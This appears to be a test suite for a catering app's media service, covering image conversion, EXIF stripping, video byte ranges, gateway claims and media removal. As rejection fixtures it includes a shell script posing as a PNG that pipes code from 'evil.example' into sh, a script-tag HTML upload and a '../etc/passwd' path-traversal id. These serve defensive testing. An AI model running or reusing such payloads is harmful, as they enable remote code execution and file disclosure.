import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { CLAIMS_HEADER, signCaller, type Caller, type RunningSubgraph } from '@brigade/service-kit';
import { startSubgraphHarness, TEST_KEY as KEY, until, type SubgraphHarness } from '@brigade/test-kit';
import type { mongo as driver } from 'mongoose';
import sharp from 'sharp';
import { startCatalog } from '../src/app';
import { deleteMedia, removeKitchenMedia } from '../src/media';

/** catalog's media routes in-process, called as the gateway calls them: with signed claims. */
const admin: Caller = { kind: 'user', userId: 'u-admin', roles: ['ADMIN'], kitchenId: 'k-1', tokenVersion: 0 };
const cook: Caller = { kind: 'user', userId: 'u-cook', roles: ['COOK'], kitchenId: 'k-1', tokenVersion: 0 };
const otherAdmin: Caller = { kind: 'user', userId: 'u-other', roles: ['ADMIN'], kitchenId: 'k-2', tokenVersion: 0 };
const fixture = (name: string) => Buffer.from(readFileSync(join(__dirname, 'fixtures', `${name}.b64`), 'utf8'), 'base64');
const WEBM = fixture('tiny.webm');
const MP4 = fixture('tiny.mp4');

let h: SubgraphHarness;
let catalog: RunningSubgraph;
let base: string;
let db: driver.Db;

beforeAll(async () => {
  h = await startSubgraphHarness({ name: 'catalog', start: startCatalog, dbName: 'catalog_media' });
  catalog = h.service;
  base = catalog.url.replace(/\/graphql$/, '');
  db = catalog.connection.db as driver.Db;
});

afterAll(() => h.stop());

const claims = async (caller: Caller | null): Promise<Record<string, string>> =>
  caller ? { [CLAIMS_HEADER]: await signCaller(caller, KEY, 'catalog') } : {};

type Uploaded = { id: string; url: string; contentType: string; size: number };

async function upload(bytes: Buffer, options: { name?: string; type?: string; purpose?: string; caller?: Caller | null } = {}) {
  const form = new FormData();
  if (options.purpose) form.append('purpose', options.purpose);
  form.append('file', new Blob([bytes], { type: options.type ?? 'application/octet-stream' }), options.name ?? 'upload.bin');
  const res = await fetch(`${base}/internal/media`, {
    method: 'POST',
    headers: await claims(options.caller === undefined ? admin : options.caller),
    body: form,
  });
  return { status: res.status, body: (await res.json()) as Uploaded & { error?: string } };
}

async function download(id: string, headers: Record<string, string> = {}, method = 'GET') {
  const res = await fetch(`${base}/internal/media/${id}`, { method, headers: { ...(await claims({ kind: 'anonymous' })), ...headers } });
  return { res, bytes: Buffer.from(await res.arrayBuffer()) };
}

const stored = async () => ({
  files: await db.collection('media.files').countDocuments(),
  chunks: await db.collection('media.chunks').countDocuments(),
});

const png = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 4, background: { r: 255, g: 120, b: 0, alpha: 1 } } })
    .png()
    .toBuffer();

describe('images', () => {
  test('a PNG is stored as WebP, its long side capped at 2048 px, with the metadata the sweep and the clients need', async () => {
    const { status, body } = await upload(await png(3000, 1200), { name: 'cover.png', type: 'image/png', purpose: 'image' });
    expect(status).toBe(200);
    expect(body).toEqual({
      id: expect.stringMatching(/^[0-9a-f]{32}$/),
      url: `/media/${body.id}`,
      contentType: 'image/webp',
      size: expect.any(Number),
    });

    const { res, bytes } = await download(body.id);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('image/webp');
    expect(Number(res.headers.get('content-length'))).toBe(body.size);
    const meta = await sharp(bytes).metadata();
    expect([meta.format, meta.width, meta.height]).toEqual(['webp', 2048, 819]);

    const file = await db.collection('media.files').findOne({ _id: body.id as never });
    expect(file?.metadata).toEqual({
      contentType: 'image/webp',
      size: body.size,
      width: 2048,
      height: 819,
      uploadedBy: 'u-admin',
      kitchenId: 'k-1',
      purpose: 'image',
      createdAt: expect.any(Date),
    });
  });

  test('a JPEG is turned upright by its EXIF orientation and stored without EXIF', async () => {
    const jpeg = await sharp({ create: { width: 400, height: 200, channels: 3, background: '#ff7800' } })
      .jpeg()
      .withMetadata({ orientation: 6, exif: { IFD0: { Artist: 'Chef', Copyright: 'GPS 52.37N 4.89E' } } })
      .toBuffer();
    const before = await sharp(jpeg).metadata();
    expect(before.orientation).toBe(6);
    expect(before.exif?.toString('latin1')).toContain('GPS 52.37N');

    const { status, body } = await upload(jpeg, { name: 'dish.jpg', type: 'image/jpeg' });
    expect(status).toBe(200);
    const after = await sharp((await download(body.id)).bytes).metadata();
    expect([after.width, after.height]).toEqual([200, 400]);
    expect(after.exif).toBeUndefined();
    expect(after.orientation).toBeUndefined();
    expect(after.icc).toBeUndefined();
  });

  test('a cook may upload a picture (their profile picture)', async () => {
    expect((await upload(await png(64, 64), { caller: cook })).status).toBe(200);
  });

  test('a shell script named x.png is refused and nothing is stored', async () => {
    const before = await stored();
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');
    expect(await upload(script, { name: 'x.png', type: 'image/png' })).toEqual({ status: 400, body: { error: 'Failed to upload images' } });
    expect(await stored()).toEqual(before);
  });

  test('an image over 10 MB is refused and nothing is stored', async () => {
    const before = await stored();
    const big = Buffer.concat([await png(16, 16), randomBytes(10 * 1024 * 1024)]);
    expect(await upload(big, { name: 'big.png', type: 'image/png', purpose: 'image' })).toEqual({
      status: 400,
      body: { error: 'Failed to upload images' },
    });
    expect(await stored()).toEqual(before);
  });

  test('a PNG whose body is broken, an empty file, a GIF and a missing file part are refused', async () => {
    const before = await stored();
    const broken = Buffer.concat([(await png(16, 16)).subarray(0, 40), randomBytes(2000)]);
    const gif = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
      .gif()
      .toBuffer();
    for (const bytes of [broken, Buffer.alloc(0), gif]) {
      expect(await upload(bytes, { type: 'image/png' })).toEqual({ status: 400, body: { error: 'Failed to upload images' } });
    }
    const form = new FormData();
    form.append('purpose', 'video');
    const res = await fetch(`${base}/internal/media`, { method: 'POST', headers: await claims(admin), body: form });
    expect([res.status, await res.json()]).toEqual([400, { error: 'Failed to upload video' }]);
    const json = await fetch(`${base}/internal/media`, {
      method: 'POST',
      headers: { ...(await claims(admin)), 'content-type': 'application/json' },
      body: '{}',
    });
    expect(json.status).toBe(400);
    expect(await stored()).toEqual(before);
  });
});

describe('videos', () => {
  test('a WebM is stored as received and served in byte ranges', async () => {
    const { status, body } = await upload(WEBM, { name: 'plating.webm', type: 'video/webm', purpose: 'video' });
    expect([status, body.contentType, body.size]).toEqual([200, 'video/webm', WEBM.length]);

    const whole = await download(body.id);
    expect(whole.bytes.equals(WEBM)).toBe(true);
    expect(
      Object.fromEntries(
        ['content-type', 'cache-control', 'etag', 'accept-ranges', 'x-content-type-options'].map((h) => [h, whole.res.headers.get(h)]),
      ),
    ).toEqual({
      'content-type': 'video/webm',
      'cache-control': 'public, max-age=31536000, immutable',
      etag: `"${body.id}"`,
      'accept-ranges': 'bytes',
      'x-content-type-options': 'nosniff',
    });

    const part = await download(body.id, { range: 'bytes=10-99' });
    expect(part.res.status).toBe(206);
    expect(part.res.headers.get('content-range')).toBe(`bytes 10-99/${WEBM.length}`);
    expect(part.res.headers.get('content-length')).toBe('90');
    expect(part.bytes.equals(WEBM.subarray(10, 100))).toBe(true);

    const tail = await download(body.id, { range: 'bytes=-16' });
    expect([tail.res.status, tail.res.headers.get('content-range')]).toEqual([
      206,
      `bytes ${WEBM.length - 16}-${WEBM.length - 1}/${WEBM.length}`,
    ]);
    expect(tail.bytes.equals(WEBM.subarray(WEBM.length - 16))).toBe(true);

    const beyond = await download(body.id, { range: `bytes=${WEBM.length}-` });
    expect([beyond.res.status, beyond.res.headers.get('content-range'), beyond.bytes.length]).toEqual([416, `bytes */${WEBM.length}`, 0]);

    // If-Range naming another version: the whole file, not a slice of something else.
    expect((await download(body.id, { range: 'bytes=10-99', 'if-range': '"other"' })).res.status).toBe(200);
    expect((await download(body.id, { 'if-none-match': `"${body.id}"` })).res.status).toBe(304);

    const head = await download(body.id, {}, 'HEAD');
    expect([head.res.status, head.res.headers.get('content-length'), head.bytes.length]).toEqual([200, String(WEBM.length), 0]);
  });

  test('an MP4 is recognised by its bytes, whatever the name says', async () => {
    const { status, body } = await upload(MP4, { name: 'clip.png', type: 'image/png' });
    expect([status, body.contentType, body.size]).toEqual([200, 'video/mp4', MP4.length]);
    const file = await db.collection('media.files').findOne({ _id: body.id as never });
    expect(file?.metadata).toMatchObject({ contentType: 'video/mp4', size: MP4.length, purpose: 'video', kitchenId: 'k-1' });
  });

  test('a video declared as a picture, a picture declared as a video, and a cook’s video are refused', async () => {
    const before = await stored();
    expect(await upload(WEBM, { purpose: 'image' })).toEqual({ status: 400, body: { error: 'Failed to upload images' } });
    expect(await upload(await png(8, 8), { purpose: 'video' })).toEqual({ status: 400, body: { error: 'Failed to upload video' } });
    expect(await upload(WEBM, { caller: cook })).toEqual({ status: 403, body: { error: 'Access Forbidden' } });
    expect(await upload(Buffer.from('<html><script>alert(1)</script></html>'), { purpose: 'video' })).toEqual({
      status: 400,
      body: { error: 'Failed to upload video' },
    });
    expect(await stored()).toEqual(before);
  });

  test('a video upload that breaks off half way leaves no chunks behind', async () => {
    const before = await stored();
    const boundary = 'brigade-test-boundary';
    const abort = new AbortController();
    let sent = 0;
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(Buffer.from(`--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="v.webm"\r\n\r\n`));
        controller.enqueue(WEBM);
      },
      // Enough to fill several GridFS chunks, then the client disappears.
      async pull(controller) {
        if (sent >= 2 * 1024 * 1024) {
          await until(stored, (now) => now.chunks > before.chunks, {
            timeoutMs: 5000,
            intervalMs: 50,
            what: 'a chunk of the upload stored',
          });
          abort.abort();
          return;
        }
        controller.enqueue(randomBytes(64 * 1024));
        sent += 64 * 1024;
      },
    });
    const request = fetch(`${base}/internal/media`, {
      method: 'POST',
      headers: { ...(await claims(admin)), 'content-type': `multipart/form-data; boundary=${boundary}` },
      body,
      duplex: 'half',
      signal: abort.signal,
    } as RequestInit);
    await expect(request).rejects.toThrow();
    await until(stored, (now) => JSON.stringify(now) === JSON.stringify(before), {
      timeoutMs: 5000,
      intervalMs: 50,
      what: `the stored files back to ${JSON.stringify(before)}`,
    });
  });
});

describe('access and lookups', () => {
  test('without gateway claims, or with forged ones, nothing is read or written', async () => {
    const { body } = await upload(await png(8, 8));
    const forged = await signCaller(admin, new TextEncoder().encode('x'.repeat(32)), 'catalog');
    for (const headers of [{}, { [CLAIMS_HEADER]: forged }] as Record<string, string>[]) {
      expect((await fetch(`${base}/internal/media/${body.id}`, { headers })).status).toBe(401);
      const res = await fetch(`${base}/internal/media`, { method: 'POST', headers, body: new FormData() });
      expect([res.status, await res.json()]).toEqual([401, { error: 'Requests must come through the gateway' }]);
    }
    expect((await upload(await png(8, 8), { caller: { kind: 'anonymous' } })).status).toBe(401);
  });

  test('unknown and malformed ids are 404', async () => {
    expect((await download(randomBytes(16).toString('hex'))).res.status).toBe(404);
    expect((await download('64b000000000000000000001')).res.status).toBe(404);
    expect((await download('..%2F..%2Fetc%2Fpasswd')).res.status).toBe(404);
  });
});

describe('removal', () => {
  test("removeKitchenMedia removes a deleted kitchen's media and chunks, and only those; running it again is harmless", async () => {
    const mine = await upload(WEBM, { caller: otherAdmin });
    const picture = await upload(await png(32, 32), { caller: otherAdmin });
    const kept = await upload(await png(32, 32));
    expect(await removeKitchenMedia(catalog.connection, 'k-2')).toBe(2);
    expect(await removeKitchenMedia(catalog.connection, 'k-2')).toBe(0);
    for (const id of [mine.body.id, picture.body.id]) {
      expect((await download(id)).res.status).toBe(404);
      expect(await db.collection('media.chunks').countDocuments({ files_id: id })).toBe(0);
    }
    expect((await download(kept.body.id)).res.status).toBe(200);
  });

  test('deleteMedia removes the given media and skips unknown ids', async () => {
    const one = await upload(await png(16, 16));
    expect(await deleteMedia(catalog.connection, [one.body.id, 'f'.repeat(32)])).toBe(1);
    expect((await download(one.body.id)).res.status).toBe(404);
    expect(await db.collection('media.chunks').countDocuments({ files_id: one.body.id })).toBe(0);
  });
});
